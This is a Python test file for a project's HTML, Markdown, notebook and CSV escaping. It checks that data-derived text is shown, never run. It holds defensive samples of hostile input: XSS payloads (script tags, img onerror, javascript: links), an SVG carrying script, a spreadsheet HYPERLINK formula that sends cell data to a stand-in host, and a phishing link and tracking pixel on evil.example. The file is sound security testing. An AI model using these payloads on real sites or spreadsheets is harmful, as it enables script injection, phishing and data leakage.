"""The core's escaping (livinglab.escaping) and the renderers that use it: data-derived text is shown as
text, never run; what the pages legitimately show (tables, styles, inline figures, links) survives."""

from __future__ import annotations

import base64

import nbformat
import pandas as pd
import pytest

from livinglab.escaping import clean_html, markdown_html, md, safe_notebook
from livinglab.report import render_html, render_model_card_html

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert('xss')>",
    "[click](javascript:alert('xss'))",
    "</table>",
]


def _live(page: str) -> list[str]:
    """What would run in a browser, as parsed: script-like tags, event handlers, javascript: URLs, the
    payload's own ``<img src=x>``."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("script", "iframe", "object", "embed"):
                found.append(tag)
            for name, value in attrs:
                if name.startswith("on"):
                    found.append(f"{tag} {name}")
                if name in ("href", "src") and (value or "").strip().lower().startswith("javascript:"):
                    found.append(f"{tag} {name}=javascript:")
                if tag == "img" and name == "src" and value == "x":
                    found.append("img src=x")

    Parser().feed(page)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_md_shows_a_payload_as_text_in_markdown(payload):
    rendered = markdown_html(f"Label: {md(payload)}\n\n| group | n |\n|---|---|\n| {md(payload)} | 1 |\n")
    assert not _live(rendered), rendered
    assert rendered.count("<table>") == 1 and rendered.count("</table>") == 1  # the table is intact
    assert "<a " not in rendered and rendered.count(payload.replace("<", "&lt;").replace(">", "&gt;")) == 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_raw_html_in_markdown_is_text_and_html_is_cleaned(payload):
    assert not _live(markdown_html(f"Label: {payload}"))
    assert "&lt;" in markdown_html("<b>x</b>")  # raw HTML in Markdown is shown, not rendered
    cleaned = clean_html(f"<p>{payload}</p><a href='javascript:alert(1)'>x</a>")
    assert set(_live(cleaned)) <= {"img src=x"}  # a broken image at most: no handler, no script, no link


def test_what_pages_show_survives_cleaning():
    frame = pd.DataFrame({"sex": ["female", "<script>alert(1)</script>"], "n": [3, 4]})
    cleaned = clean_html(frame._repr_html_())
    assert "<table" in cleaned and "<style" in cleaned and "&lt;script&gt;" in cleaned and not _live(cleaned)
    styled = frame.style.format(escape="html").to_html()
    assert "&lt;script&gt;" in clean_html(styled) and "<style" in clean_html(styled)
    png = "data:image/png;base64," + base64.b64encode(b"\x89PNG").decode()
    kept = clean_html(f'<img src="{png}" alt="f"><a href="model_card.html">card</a>')
    assert png in kept and 'href="model_card.html"' in kept
    assert "src" not in clean_html('<img src="data:text/html;base64,PHNjcmlwdD4=">')


def test_a_notebooks_outputs_are_made_safe_before_rendering(tmp_path):
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(things)")
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><circle r='3'/></svg>"
    cell.outputs = [
        nbformat.v4.new_output("display_data", {"text/markdown": f"Label **{PAYLOADS[1]}**"}),
        nbformat.v4.new_output(
            "display_data", {"text/html": f"<table><tr><td>{PAYLOADS[0]}</td></tr></table>"}
        ),
        nbformat.v4.new_output("display_data", {"image/svg+xml": svg}),
        nbformat.v4.new_output("display_data", {"application/javascript": "alert(1)"}),
    ]
    nb.cells = [cell]
    nbformat.write(nb, tmp_path / "x.ipynb")
    page = render_html(tmp_path / "x.ipynb", tmp_path / "x.html").read_text()
    body = page[page.index("<body") :]
    outputs = body[body.index("jp-OutputArea") :]
    assert "alert(1)" not in outputs.replace(
        "&lt;script&gt;alert(1)", ""
    )  # the SVG's script is inside an img
    assert "&lt;img src=x onerror=alert('xss')&gt;" in outputs.replace("&#x27;", "'")
    assert "&lt;script&gt;alert('xss')&lt;/script&gt;" in outputs.replace("&#x27;", "'")
    assert 'src="data:image/svg+xml;base64,' in outputs
    safe = safe_notebook(nbformat.reads(nbformat.writes(nb), as_version=4))
    assert all("application/javascript" not in o.get("data", {}) for o in safe.cells[0].outputs)


def test_the_model_card_page_shows_html_as_text(tmp_path):
    card = tmp_path / "model_card.md"
    card.write_text(
        f"# Card\n\n| group | n |\n|---|---|\n| {PAYLOADS[0]} | 1 |\n| {PAYLOADS[3]} | 2 |\n\n"
        f"Data: {PAYLOADS[1]} {PAYLOADS[2]}\n\n![figure](figure.png)\n"
    )
    page = render_model_card_html(card, tmp_path / "model_card.html").read_text()
    body = page[page.index("<body") :]
    assert "<script>alert" not in body and "onerror=alert" not in body.replace("&lt;img src=x onerror", "")
    assert 'href="javascript' not in body and '<img src="figure.png" alt="figure"' in body
    assert body.count("<table>") == 1 and body.count("</table>") == 1


def test_a_csv_for_spreadsheets_shows_formulas_from_the_data_as_text():
    """``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab or a carriage return first: a spreadsheet would run it; the
    cell gets a leading ``'``. Numbers (negative ones too) and missing values are left as they are."""
    import pandas as pd

    from livinglab.escaping import spreadsheet_safe

    frame = pd.DataFrame(
        {
            "region": ['=HYPERLINK("http://x.example/?"&A1,"open")', "Nord", None, "@SUM(A1)", "\tcmd"],
            "sex": pd.Categorical(["+1", "female", "male", "male", "-x"]),
            "change": [-1.5, 2.0, 0.0, -3.0, 1.0],
            "mixed": ["-2", -2, "ok", None, "\rx"],
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["region"].tolist()[:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "Nord"]
    assert safe["region"].isna().tolist() == [False, False, True, False, False]
    assert safe["region"].iloc[3:].tolist() == ["'@SUM(A1)", "'\tcmd"]
    assert safe["sex"].tolist() == ["'+1", "female", "male", "male", "'-x"]
    assert safe["change"].tolist() == [-1.5, 2.0, 0.0, -3.0, 1.0]
    assert safe["mixed"].tolist()[:3] == ["'-2", -2, "ok"] and safe["mixed"].iloc[4] == "'\rx"
    assert frame["region"].iloc[0].startswith("=")  # the caller's frame is not changed


LINK_NAME = "[Sign in again](https://evil.example/login)"
PIXEL_NAME = "![](https://evil.example/pixel.png) x\n\n## Verdict: approved for production"


def _report_on_hostile_group_names():
    """A subgroup report whose two groups are named like a Markdown link and an image with a heading."""
    import sys
    from pathlib import Path

    from livinglab.trust.subgroups import subgroup_report

    sys.path.insert(0, str(Path(__file__).parent / "trust"))
    from test_trust_model_card import accuracy

    return subgroup_report(
        {"accuracy": accuracy},
        [1, 0, 1, 0, 1, 1],
        [1, 0, 0, 0, 1, 1],
        [LINK_NAME] * 3 + [PIXEL_NAME] * 3,
        n_boot=20,
        min_count=2,
    )


def test_group_names_from_the_data_stay_text_in_the_subgroup_table_and_the_model_card():
    """A group named like a Markdown link, an image (a web beacon) or a line break and a heading (a forged
    verdict) is shown as its text in the subgroup table, the gap sentences and the card's summary; an
    ordinary name is written as it is."""
    import re
    import sys
    from pathlib import Path

    from livinglab.escaping import markdown_html, md_inline
    from livinglab.trust import ModelCard

    assert md_inline("65+ St. Martin low_income (north)") == "65+ St. Martin low_income (north)"
    sys.path.insert(0, str(Path(__file__).parent / "trust"))
    from test_trust_model_card import card_fields

    report = _report_on_hostile_group_names()
    card = ModelCard(**card_fields(subgroups=report))
    for markdown in (report.to_markdown(), card.to_markdown()):
        page = markdown_html(markdown)
        assert not re.search(r"<a |<img |<h\d>Verdict", page), page
        assert "[Sign in again](https://evil.example/login)" in page
        assert "![](https://evil.example/pixel.png) x  ## Verdict: approved for production" in page


def test_group_names_from_the_data_stay_text_in_the_cards_prose():
    """card.yaml's prose names the largest gap's groups (``{{ gap.worst }}``): from the data, as text."""
    from types import SimpleNamespace

    from livinglab.escaping import markdown_html
    from livinglab.result import Result
    from livinglab.trust.model_card import card_context
    from livinglab.trust.texts import render_text

    report = _report_on_hostile_group_names()
    result = Result(
        pilot="p", design="d", data=SimpleNamespace(is_synthetic=True), subgroups={"by x": report}
    )
    prose = render_text("Worst {{ gap.worst }}, best {{ gap.best }}.", card_context(result), "test")
    page = markdown_html(prose)
    assert "<a " not in page and "<img " not in page and "<h2>" not in page, page
    assert "[Sign in again](https://evil.example/login)" in page
